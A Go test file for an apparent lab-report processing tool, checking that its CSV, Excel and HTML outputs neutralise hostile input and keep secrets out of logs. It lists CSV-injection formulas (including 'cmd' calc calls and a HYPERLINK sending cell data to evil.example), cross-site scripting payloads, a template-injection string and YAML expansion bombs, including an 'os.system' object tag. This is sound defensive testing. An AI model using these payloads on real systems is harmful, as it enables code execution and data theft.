package main

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"example.org/windrow/normalize"
)

// evil are texts that a program which takes text for something else would run.
// The spreadsheet ones are those that OWASP's page on CSV injection warns of
// (the leading characters = + - @ tab and carriage return, and the full-width
// forms); the HTML ones are the plainest of its page on cross-site scripting.
// From memory of both pages.
var evil = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	`＝1+1`,
	` =1+1`,
	`<script>alert('evil.example')</script>`,
	`"><img src="http://evil.example/x" onerror="alert(1)">`,
	`' onmouseover='alert(1)`,
	`</td></table><iframe src="http://evil.example"></iframe>`,
	`<a href="javascript:alert(1)">x</a>`,
	`{{.Office.Password}}${7*7}<%= 7*7 %>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
}

// evilReports writes a report for each text, with it as client, as label of
// the sample and in the number of the report, in files of evil names.
func evilReports(t *testing.T, dir string) (labels []string) {
	t.Helper()
	b, err := os.ReadFile("../../testdata/labs/marrow-brook-land-water-testing/MB26-0711.csv")
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(dir, 0o750); err != nil {
		t.Fatal(err)
	}
	for i, x := range evil {
		var out bytes.Buffer
		w := csv.NewWriter(&out)
		for j, row := range rows {
			if j > 0 {
				if row[1] != rows[1][1] {
					continue
				}
				row = append([]string(nil), row...)
				row[0], row[1], row[2], row[3] = fmt.Sprintf("MB28-%04d", i), fmt.Sprintf("MB7%04d", i), x, x
			}
			if err := w.Write(row); err != nil {
				t.Fatal(err)
			}
		}
		w.Flush()
		name := []string{"=1+1 %d.csv", "<img src=x onerror=alert(1)> %d.csv", "@SUM(1) %d.csv", "'-x %d.csv"}[i%4]
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf(name, i)), append([]byte("\ufeff"), out.Bytes()...), 0o600); err != nil {
			t.Fatal(err)
		}
		labels = append(labels, fmt.Sprintf("MB7%04d", i))
	}
	return labels
}

// No text of a report, of its file's name or of the register is run by what
// reads the files that Windrow writes: no cell of any CSV begins a formula, no
// cell of any workbook holds one or a link, and no page has an element, an
// attribute or an address of theirs. All that the office gives out is looked
// at, and all of it must show the texts, or nothing is shown by this.
func TestHostileTextIsNeverRun(t *testing.T) {
	dir := t.TempDir()
	if err := makeOffice(dir); err != nil {
		t.Fatal(err)
	}
	drop, out := filepath.Join(dir, "drop"), filepath.Join(dir, "out")
	labels := evilReports(t, drop)
	var reg bytes.Buffer
	w := csv.NewWriter(&reg)
	_ = w.Write([]string{"label", "client", "date sent"}) // a buffer takes everything
	for i, x := range evil {
		_ = w.Write([]string{x + fmt.Sprint(" never came ", i), x, "2026-05-11"})
	}
	_ = w.Write([]string{labels[0], evil[0], "2026-02-17"})
	w.Flush()
	write(t, filepath.Join(dir, "register.csv"), reg.String())

	must(t, exitDone, "run", "--office", dir, "-q", drop)
	must(t, exitDone, "audit", "sign", "--office", dir, "--name", evil[8], "--decision", "accepted", "--note", evil[9])
	must(t, exitDone, "audit", "--office", dir, "--workbook", filepath.Join(out, "audit"))
	must(t, exitDone, "dataset", "-q", "--office", dir, "--min-group", "1", "--decided-by", "a test", "--because", "nobody in it is real", "--out", filepath.Join(out, "set"), "--title", evil[0])
	must(t, exitDone, "summary", "--office", dir, "--for-office", "--by", "county,lab", "--out", filepath.Join(out, "summary"), "--title", evil[8])
	if err := os.WriteFile(filepath.Join(out, "results.csv"), []byte(must(t, exitDone, "show", "results", "--office", dir, "--with-clients", drop)), 0o600); err != nil {
		t.Fatal(err)
	}
	// A replay that finds every report another, so that its table is full.
	reread(t, dir)
	must(t, exitDone, "replay", "--office", dir, "--out", filepath.Join(out, "changes.csv"))
	for i, name := range names(t, drop) {
		if i%4 != 0 {
			continue // each takes a moment, and the texts are on all of them alike
		}
		must(t, exitDone, "mapping", "explain", "--office", dir, filepath.Join(drop, name), "--page", filepath.Join(out, fmt.Sprintf("page-%d.html", i)))
	}
	// What is printed for people is no table: no control character of a report
	// reaches the terminal.
	for _, args := range [][]string{{"waiting", "--with-clients"}, {"register", "check", "--with-clients"}} {
		cmd := program(t, append(args, "--office", dir)...)
		b, _ := cmd.CombinedOutput() // some findings end it with another code
		if !bytes.Contains(b, []byte("HYPERLINK")) {
			t.Errorf("%v does not show the texts:\n%s", args, b)
		}
		if regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f\u202e]").Match(b) {
			t.Errorf("%v prints control characters:\n%q", args, b)
		}
	}

	looked := map[string]int{}
	for p, b := range tree(t, dir) {
		if strings.HasPrefix(p, "drop/") || strings.HasPrefix(p, "archive/originals/") || p == "register.csv" {
			continue // not ours
		}
		kind := filepath.Ext(p)
		looked[kind]++
		switch kind {
		case ".csv":
			noFormulaIn(t, p, b)
		case ".xlsx":
			noFormulaInWorkbook(t, p, b)
		case ".html":
			noneOfTheirsIn(t, p, b)
		}
	}
	t.Logf("looked at %v", looked)
	for kind, least := range map[string]int{".csv": 4, ".xlsx": 1, ".html": len(evil) + 5} {
		if looked[kind] < least {
			t.Errorf("only %d files %s", looked[kind], kind)
		}
	}
	shown := tree(t, dir)
	if !strings.Contains(shown["out/results.csv"], "=1+1") || !strings.Contains(shown["out/changes.csv"], "=1+1") {
		t.Error("the tables do not show the texts")
	}
	letters := 0
	for p, b := range shown {
		if strings.HasPrefix(p, "letters/") && (strings.Contains(b, "evil.example") || strings.Contains(b, "1+1")) {
			letters++
		}
	}
	if letters < 3 {
		t.Errorf("only %d letters show the texts", letters)
	}
}

func noFormulaIn(t *testing.T, p, text string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Errorf("%s: %d rows, %v", p, len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if _, err := strconv.ParseFloat(cell, 64); err == nil || strings.Trim(cell, "-") == "" {
				continue // a number, or a word for a missing one
			}
			if normalize.Safe(cell) != cell {
				t.Errorf("%s: a spreadsheet would run %q", p, cell)
			}
		}
	}
}

func noFormulaInWorkbook(t *testing.T, p, text string) {
	t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(text))
	if err != nil {
		t.Fatalf("%s: %v", p, err)
	}
	defer f.Close()
	texts := 0
	for _, s := range f.GetSheetList() {
		rows, err := f.GetRows(s)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, cell := range row {
				at, err := excelize.CoordinatesToCellName(j+1, i+1)
				if err != nil {
					t.Fatal(err)
				}
				if x, err := f.GetCellFormula(s, at); err != nil || x != "" {
					t.Errorf("%s: %s!%s holds the formula %q (%v)", p, s, at, x, err)
				}
				if is, to, err := f.GetCellHyperLink(s, at); err != nil || is {
					t.Errorf("%s: %s!%s links to %q (%v)", p, s, at, to, err)
				}
				if strings.Contains(cell, "HYPERLINK") || strings.Contains(cell, "=1+1") {
					texts++
				}
			}
		}
	}
	if texts == 0 {
		t.Errorf("%s does not show the texts", p)
	}
	// And as it lies in the file, by no library that writes it too.
	z, err := zip.NewReader(strings.NewReader(text), int64(len(text)))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range z.File {
		r, err := e.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) || bytes.Contains(b, []byte(`TargetMode="External"`)) || strings.Contains(e.Name, "vba") {
			t.Errorf("%s: %s holds a formula, a link or a macro", p, e.Name)
		}
	}
}

// noneOfTheirsIn parses a page as a browser does.
func noneOfTheirsIn(t *testing.T, p, text string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(text))
	if err != nil {
		t.Fatalf("%s: %v", p, err)
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "iframe", "object", "embed", "base", "form", "link":
			t.Errorf("%s holds <%s>", p, n.Data)
		case "script":
			if n.FirstChild != nil && (strings.Contains(n.FirstChild.Data, "alert(") || strings.Contains(n.FirstChild.Data, "evil.example")) {
				t.Errorf("%s holds their script", p)
			}
		}
		for _, a := range n.Attr {
			v := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"):
				t.Errorf("%s: <%s %s=%q>", p, n.Data, a.Key, a.Val)
			case (a.Key == "href" || a.Key == "src" || a.Key == "action") && (strings.HasPrefix(v, "javascript:") || strings.Contains(v, "//evil.example") || v == "x"):
				t.Errorf("%s: <%s %s=%q>", p, n.Data, a.Key, a.Val)
			}
		}
	}
	if strings.Contains(text, "{{.") && !strings.Contains(text, "Office.Password") || strings.Contains(text, "$49") {
		t.Errorf("%s: a template was run", p)
	}
}

// The check of pages must be able to fail.
func TestNoneOfTheirsCanFail(t *testing.T) {
	for _, x := range evil[8:13] {
		if x == evil[10] {
			x = `<b title='` + x + `'>`
		}
		var sub testing.T
		noneOfTheirsIn(&sub, "page", "<p>"+x+"</p>")
		if !sub.Failed() {
			t.Errorf("%s passes unescaped", x)
		}
	}
}

// A YAML file of an office, a mapping, a rule set that is built to grow or to
// recurse when it is read is refused in words, at once.
func TestYAMLThatGrows(t *testing.T) {
	laughs := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c <= 'i'; c++ {
		laughs += fmt.Sprintf("%c: &%c [%s]\n", c, c, strings.TrimSuffix(strings.Repeat("*"+string(c-1)+",", 9), ","))
	}
	for name, text := range map[string]string{
		"laughs":    laughs,
		"recursion": "a: &a\n  b: *a\n",
		"merge":     "a: &a {x: 1}\nb:\n  <<: *a\n",
		"brackets":  "a: " + strings.Repeat("[", 60_000),
		"braces":    "a: " + strings.Repeat("{a: ", 60_000),
		"deep":      deepYAML(5_000),
		"tag":       "office: !!python/object/apply:os.system [\"true\"]\n",
		"two":       "office:\n  name: x\n---\noffice:\n  name: y\n",
		"nul":       "office:\n  name: \"x\x00y\"\n\x00",
	} {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			if err := makeOffice(dir); err != nil {
				t.Fatal(err)
			}
			write(t, filepath.Join(dir, "evil.yaml"), text)
			if err := os.MkdirAll(filepath.Join(dir, "set"), 0o750); err != nil {
				t.Fatal(err)
			}
			refused := func(args ...string) {
				t.Helper()
				begun := time.Now()
				b, err := program(t, args...).CombinedOutput()
				if took := time.Since(begun); took > 20*time.Second {
					t.Errorf("%v takes %v", args, took)
				}
				if err == nil || bytes.Contains(b, []byte("panic")) || bytes.Contains(b, []byte("goroutine ")) || !bytes.Contains(b, []byte("yaml")) || !bytes.Contains(b, []byte("next")) {
					t.Errorf("%v: %v\n%.2000s", args, err, b)
				}
			}
			refused("mapping", "check", filepath.Join(dir, "evil.yaml"))
			write(t, filepath.Join(dir, "set", "evil.yaml"), text)
			refused("rules", "check", filepath.Join(dir, "set"))
			write(t, filepath.Join(dir, "windrow.yaml"), text)
			refused("config", "check", "--office", dir)
		})
	}
}

func deepYAML(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat(" ", i) + "a:\n")
		if b.Len() > 60<<10 {
			break
		}
	}
	return b.String()
}

// A secret of the settings appears in no log at any level, in no metric, in no
// page, in no message, and is not shown by the command that shows settings;
// names of people are in no metric.
func TestSecretsAndNamesStayIn(t *testing.T) {
	const secret = "furrow-slice-secret-4711"
	dir := t.TempDir()
	if err := makeOffice(dir); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(filepath.Join(dir, "windrow.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "windrow.yaml"), string(b)+"pdf_passwords: "+secret+"\n")
	shown, err := program(t, "config", "check", "--office", dir).CombinedOutput()
	if err != nil || bytes.Contains(shown, []byte(secret)) || !bytes.Contains(shown, []byte("pdf_passwords")) {
		t.Errorf("config check (%v) shows the secret, or not that there is one:\n%s", err, shown)
	}
	w := startWatch(t, dir, "--log-level", "debug")
	copyFile(t, filepath.Join(hostileFiles, "password-protected.pdf"), filepath.Join(dir, "inbox", "locked.pdf"))
	dropAll(t, dir)
	w.until(t, time.Minute, "all are filed", func() bool { return len(names(t, filepath.Join(dir, "inbox"))) == 0 })
	metrics := get(t, w.url+"/metrics")
	pages := get(t, w.url+"/healthz") + get(t, w.url+"/readyz")
	w.stop(t)
	for what, text := range map[string]string{"log": w.errs.String(), "stdout": w.out.String(), "metrics": metrics, "pages": pages} {
		if strings.Contains(text, secret) {
			t.Errorf("the secret stands in %s", what)
		}
	}
	if !strings.Contains(metrics, "windrow_") {
		t.Fatalf("no metrics:\n%s", metrics)
	}
	for _, name := range namesIn(t, dir) {
		if strings.Contains(metrics, name) || strings.Contains(pages, name) {
			t.Errorf("%q stands in the metrics", name)
		}
	}
}

// The page of threats names tests that there are.
func TestThreatsAreTested(t *testing.T) {
	page, err := os.ReadFile("../../deploy/THREATS.md")
	if err != nil {
		t.Fatal(err)
	}
	there := map[string]bool{}
	for _, top := range []string{"../../cmd", "../../ingest", "../../mappings", "../../normalize", "../../interpret"} {
		for _, b := range testFiles(t, top) {
			for _, m := range regexp.MustCompile(`(?m)^func (Test\w+)\(t \*testing\.T\)`).FindAllStringSubmatch(b, -1) {
				there[m[1]] = true
			}
		}
	}
	rows := 0
	for line := range strings.Lines(string(page)) {
		if !strings.HasPrefix(line, "| ") || strings.HasPrefix(line, "| Danger") {
			continue
		}
		rows++
		named := regexp.MustCompile("`(Test\\w+)`").FindAllStringSubmatch(line, -1)
		if len(named) == 0 {
			t.Errorf("no test shows it: %s", line)
		}
		for _, m := range named {
			if !there[m[1]] {
				t.Errorf("there is no test %s: %s", m[1], line)
			}
		}
	}
	if rows < 15 {
		t.Errorf("only %d rows", rows)
	}
}

func testFiles(t *testing.T, top string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.WalkDir(top, func(p string, d fs.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(p, "_test.go") {
			return err
		}
		b, err := os.ReadFile(p)
		out[p] = string(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}
